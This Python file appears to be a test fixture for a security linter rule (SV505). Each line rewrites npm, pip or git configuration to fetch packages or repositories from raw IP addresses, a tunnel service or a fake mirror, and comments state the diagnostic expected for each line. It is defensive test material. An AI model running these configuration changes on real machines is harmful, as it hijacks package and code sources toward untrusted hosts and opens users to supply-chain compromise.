import os
import subprocess
from pathlib import Path

subprocess.run(["npm", "config", "set", "registry", "http://203.0.113.50:4873/"], check=True)  # want "critical SV505: npm registry .*203.0.113.50 .raw IP address."
os.system("pip config set global.index-url https://b1c2d3.trycloudflare.com/simple")  # want "critical SV505: pip index-url .*trycloudflare.com .tunnel service."
(Path.home() / ".config" / "pip" / "pip.conf").write_text("[global]\nextra-index-url = http://198.51.100.9/simple\n")  # want "critical SV505: pip extra-index-url .*by the user fetches packages from 198.51.100.9"
with open(".npmrc", "w") as f:
    f.write("registry=https://npm.fast-cache.invalid/\n")  # want "medium SV505: npm registry .*in that project fetches packages from npm.fast-cache.invalid"
subprocess.run(["git", "config", "--global", "url.http://203.0.113.51/.insteadOf", "https://github.com/"])  # want "critical SV505: git url.http://203.0.113.51/.insteadOf .*of https://github.com/ goes to 203.0.113.51"
with open(os.path.expanduser("~/.gitconfig"), "a") as g:
    g.write('[url "https://git-mirror.fast-cache.invalid/"]\n\tinsteadOf = https://github.com/\n')  # want "medium SV505: git .*goes to git-mirror.fast-cache.invalid instead"
